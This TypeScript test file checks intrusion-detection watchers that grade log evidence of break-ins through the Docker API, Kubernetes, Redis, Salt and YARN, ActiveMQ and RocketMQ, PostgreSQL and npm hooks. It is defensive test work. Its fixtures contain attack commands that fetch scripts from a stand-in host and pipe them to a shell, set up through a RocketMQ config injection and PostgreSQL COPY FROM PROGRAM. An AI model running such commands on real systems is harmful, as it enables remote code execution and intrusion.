/** What the watchers of services take for a success, for an attempt and for nothing. */
import { describe, expect, test } from 'bun:test';
import type { ContainerEvent, LogEvent } from '../../model/facts/event.ts';
import {
  conclude,
  container,
  door,
  entry,
  event,
  left,
  miner,
  scene,
  service,
  text,
} from '../incident.fixture.ts';
import type { Scene } from '../scene.ts';
import { brokerWatcher } from './broker.ts';
import { databaseWatcher } from './database.ts';
import { DockerWatcher } from './docker.ts';
import { KubernetesWatcher } from './kubernetes.ts';
import { RedisWatcher } from './redis.ts';
import { schedulerWatcher } from './scheduler.ts';
import { SupplyChainWatcher } from './supply-chain.ts';
import type { EntryWatcher } from './watcher.ts';

const attacker = '203.0.113.66';
const told = (watcher: EntryWatcher, events: readonly LogEvent[], of: Partial<Scene>) =>
  conclude(watcher, events, scene(of)).map(({ vector, grade }) => `${vector} ${grade}`);

const asked = (when: string, parts: Partial<Omit<ContainerEvent, 'what'>> = {}): LogEvent =>
  event(when, {
    what: 'container',
    runtime: 'docker',
    action: 'created',
    container: text(''),
    image: text(''),
    account: text(''),
    from: text(''),
    detail: text('POST /v1.41/containers/create'),
    ...parts,
  });

describe('Docker', () => {
  const startedUs = Date.UTC(2024, 2, 10, 2, 31) * 1000;
  const bad = container('deadbeef0001', { startedUs });
  const written = entry(
    'docker-container',
    `/var/lib/docker/containers/${bad.id}/config.v2.json`,
    '2024-03-10 02:31:00',
  );

  test('a daemon that only listens here was told by somebody who is here', () => {
    expect(told(new DockerWatcher(), [asked('2024-03-10 02:30:59')], { containers: [bad] })).toEqual([]);
  });

  test('its own log without an address is probable', () => {
    const of = { containers: [bad], entries: [written], doors: [door('docker', 2375)] };
    const [way] = conclude(new DockerWatcher(), [asked('2024-03-10 02:30:59')], scene(of));
    expect(way).toMatchObject({ grade: 'probable', missing: ['address-hidden'], attackers: [] });
  });

  test('where dockerd said that it listens counts, of an image that has no sockets', () => {
    const of = { containers: [bad], entries: [written] };
    const says = (where: string): readonly string[] =>
      told(
        new DockerWatcher(),
        [service('2024-03-01 00:00:00', 'docker', 'listening', { detail: where })],
        of,
      );
    expect(says('[::]:2375')).toEqual(['docker-api probable']);
    expect([says('127.0.0.1:2375'), says('[::]:2376')]).toEqual([[], []]);
  });

  test('a container without the host, and one that nobody accuses, are none', () => {
    const doors = [door('docker', 2375)];
    const plain = { ...bad, hostAccess: false };
    const own = { ...bad, accused: false };
    const watcher = new DockerWatcher();
    expect(told(watcher, [], { containers: [plain, own], doors })).toEqual([]);
    expect(watcher.excluded()).toMatchObject([{ what: 'own-container', count: 2 }]);
  });

  test('thousands of containers of a build server do not hide it', () => {
    const builds = Array.from({ length: 5_000 }, (_, index) =>
      asked('2024-03-09 00:00:00', { container: text(`b${index}`) }),
    );
    const of = { containers: [bad], entries: [written], doors: [door('docker', 2375)] };
    const named = asked('2024-03-10 02:30:59', { from: text(attacker), container: text('deadbeef0001') });
    expect(told(new DockerWatcher(), [...builds, named], of)).toEqual(['docker-api confirmed']);
  });
});

describe('Kubernetes', () => {
  const of = (action: ContainerEvent['action'], account: string, from: string, detail: string): LogEvent =>
    asked('2024-03-10 02:31:00', {
      runtime: 'kubernetes',
      action,
      account: text(account),
      from: text(from),
      detail: text(detail),
    });
  const left_ = { files: [left('/tmp/x', '2024-03-10 02:32:00')] };

  test('probes of anybody, and what was refused, are none', () => {
    const events = [
      of('request', 'system:anonymous', attacker, 'get 200 /version'),
      of('created', 'system:anonymous', attacker, 'create 403 /api/v1/pods'),
    ];
    expect(told(new KubernetesWatcher(), events, left_)).toEqual([]);
  });

  test('a controller within creates pods all day', () => {
    const own = of(
      'created',
      'system:serviceaccount:kube-system:replicaset-controller',
      '10.0.0.2',
      'create 201 /api',
    );
    expect(told(new KubernetesWatcher(), [own], left_)).toEqual([]);
  });

  test("a service account's token from outside, and then a file", () => {
    const stolen = of('created', 'system:serviceaccount:default:ci', attacker, 'create 201 /api/v1/pods');
    expect(told(new KubernetesWatcher(), [stolen], left_)).toEqual(['kubelet confirmed']);
    expect(told(new KubernetesWatcher(), [stolen], {})).toEqual([]);
  });
});

describe('Redis', () => {
  test('a save hours before the dump is not its success', () => {
    const of = {
      entries: [entry('cron-user', '/var/spool/cron/root', '2024-03-10 02:31:00', { dumped: true })],
    };
    expect(told(new RedisWatcher(), [service('2024-03-10 02:05:00', 'redis', 'saved')], of)).toEqual([
      'redis-cron probable',
    ]);
  });

  test('settings of a usual place say nothing', () => {
    const of = {
      entries: [
        entry('redis', '/etc/redis/redis.conf', '2024-03-10 02:31:00', {
          text: text('dir "/var/lib/redis"'),
        }),
      ],
    };
    expect(told(new RedisWatcher(), [], of)).toEqual([]);
  });

  test('a module of a package is nobody’s', () => {
    const module = service('2024-03-10 02:31:00', 'redis', 'module-loaded', {
      detail: 'search /usr/lib/redis/modules/redisearch.so',
    });
    expect(
      told(new RedisWatcher(), [module], { files: [left('/tmp/x', '2024-03-10 02:32:00', 'redis')] }),
    ).toEqual([]);
  });

  test('a replica within the network, for years', () => {
    const watcher = new RedisWatcher();
    const events = Array.from({ length: 500 }, (_, index) =>
      service(`2024-03-${String(1 + (index % 9)).padStart(2, '0')} 02:31:00`, 'redis', 'replica-of', {
        from: '10.0.0.8',
      }),
    );
    expect(told(watcher, events, { files: [left('/tmp/x', '2024-03-10 02:32:00', 'redis')] })).toEqual([]);
    expect(watcher.excluded()[0]?.what).toBe('own-replica');
  });
});

describe('schedulers and brokers', () => {
  const salted = { files: [left('/root/.x', '2024-03-10 02:32:00')] };

  test('dr.who on a cluster without any trace is possible', () => {
    const event_ = service('2024-03-10 02:31:00', 'yarn', 'application', {
      from: attacker,
      account: 'dr.who',
    });
    expect(told(schedulerWatcher(), [event_], {})).toEqual(['scheduler possible']);
  });

  test('Salt runs as root; what it runs every day is its work', () => {
    const command = (day: string): LogEvent =>
      service(`2024-03-${day} 02:31:00`, 'salt', 'executed', { account: 'root', detail: 'cmd.run' });
    expect(told(schedulerWatcher(), [command('10')], salted)).toEqual(['scheduler confirmed']);
    expect(told(schedulerWatcher(), ['08', '09', '10'].map(command), salted)).toEqual([]);
  });

  test('a class path of its own is no address', () => {
    const own = service('2024-03-10 02:31:00', 'activemq', 'beans-loaded', {
      detail: 'file:/opt/activemq/conf/activemq.xml',
    });
    expect(
      told(brokerWatcher(), [own], { files: [left('/tmp/x', '2024-03-10 02:32:00', 'activemq')] }),
    ).toEqual([]);
  });

  test("a stranger's connection that broke off, with what the broker's account left after it", () => {
    const broke = (when: string, from = attacker) =>
      service(when, 'activemq', 'connection-failed', { from, detail: 'java.io.EOFException' });
    const by = (owner: string) => ({ files: [left('/tmp/x', '2024-03-10 02:32:00', owner)] });
    const [way] = conclude(brokerWatcher(), [broke('2024-03-10 02:31:00')], scene(by('activemq')));
    expect(way).toMatchObject({
      grade: 'probable',
      missing: ['no-success-logged'],
      attackers: [attacker],
      account: 'activemq',
    });
    expect(way?.chain.map(({ step }) => step)).toEqual(['attempt', 'file']);
    // Somebody else's file, a client of one's own, and a scanner of days.
    expect(told(brokerWatcher(), [broke('2024-03-10 02:31:00')], by('www-data'))).toEqual([]);
    expect(told(brokerWatcher(), [broke('2024-03-10 02:31:00', '10.0.0.8')], by('activemq'))).toEqual([]);
    const always = ['08', '09', '10'].map((day) => broke(`2024-03-${day} 02:31:00`));
    expect(told(brokerWatcher(), always, by('activemq'))).toEqual([]);
  });

  test('an account of any name that writes the log of its service is the service', () => {
    const script = service('2024-03-10 02:31:00', 'xxl-job', 'script', { detail: '/data/1.sh' });
    const of = { files: [left('/tmp/x', '2024-03-10 02:32:00', 'app')] };
    const log = (name: string) => ({ logWriters: new Map([[script.source.source, text(name)]]) });
    const claim = (name: string) => conclude(schedulerWatcher(), [script], scene({ ...of, ...log(name) }))[0];
    expect(claim('app')).toMatchObject({ grade: 'confirmed', account: 'app' });
    expect(claim('other')).toMatchObject({ grade: 'probable', missing: ['owner-differs'] });
  });

  test('RocketMQ whose home is a command', () => {
    const changed = service('2024-03-10 02:31:00', 'rocketmq', 'config-changed', {
      from: attacker,
      detail: '{rocketmqHome=-c $@|sh . echo curl 203.0.113.66|sh;}',
    });
    const of = { files: [left('/tmp/x', '2024-03-10 02:32:00', 'rocketmq')] };
    expect(told(brokerWatcher(), [changed], of)).toEqual(['broker confirmed']);
  });

  test('an open door alone is no way in, nor is a miner of another account', () => {
    const of = { doors: [door('activemq', 61616)], miners: [miner('2024-03-10 02:32:00', 'www-data')] };
    expect(told(brokerWatcher(), [], of)).toEqual([]);
  });
});

describe('databases', () => {
  const ran = service('2024-03-10 02:31:00', 'postgresql', 'statement', {
    account: 'postgres',
    detail: "COPY c FROM PROGRAM 'curl -s http://203.0.113.66/pg.sh|bash'",
  });
  const came = (from: string): LogEvent =>
    event('2024-03-10 02:30:30', {
      what: 'login',
      outcome: 'accepted',
      service: 'postgresql',
      account: text('postgres'),
      known: true,
      from: text(from),
      method: text('md5'),
    });
  const of = scene({ files: [left('/tmp/.pg', '2024-03-10 02:31:05', 'postgres')] });

  test('a program that ran and failed is what it was told to run', () => {
    const failed = (detail: string) =>
      service('2024-03-10 02:31:00', 'postgresql', 'program-failed', { detail });
    expect(told(databaseWatcher(), [failed("echo 'x'|base64 -d|bash")], of)).toEqual([
      'database-exec confirmed',
    ]);
    expect(told(databaseWatcher(), [failed('gzip -dc /srv/dump.gz')], of)).toEqual([]);
  });

  test('a statement without an address is of the one stranger who had logged in', () => {
    expect(conclude(databaseWatcher(), [came(attacker), came('10.0.0.3'), ran], of)[0]).toMatchObject({
      grade: 'confirmed',
      attackers: [attacker],
    });
  });

  test('of two strangers neither is named', () => {
    expect(
      conclude(databaseWatcher(), [came(attacker), came('198.51.100.9'), ran], of)[0]?.attackers,
    ).toEqual([]);
  });
});

describe('packages', () => {
  const ran = (when: string, command: string): LogEvent =>
    event(when, { what: 'command', origin: 'history', account: text('dev'), command: text(command) });

  test('a hook of another manager, or hours later, is not of this installation', () => {
    const of = { entries: [entry('npm-hook', '/srv/app/package.json', '2024-03-10 02:32:00')] };
    expect(told(new SupplyChainWatcher(), [ran('2024-03-10 02:31:00', 'pip install requests')], of)).toEqual(
      [],
    );
    expect(told(new SupplyChainWatcher(), [ran('2024-03-09 02:31:00', 'npm ci')], of)).toEqual([]);
    expect(told(new SupplyChainWatcher(), [ran('2024-03-10 02:31:00', 'npm ci')], of)).toEqual([
      'supply-chain confirmed',
    ]);
  });

  test('commands of megabytes are looked at in their beginning', () => {
    const long = ran('2024-03-10 02:31:00', `apt ${'-y '.repeat(400_000)}install x`);
    expect(told(new SupplyChainWatcher(), [long], {})).toEqual([]);
  });
});
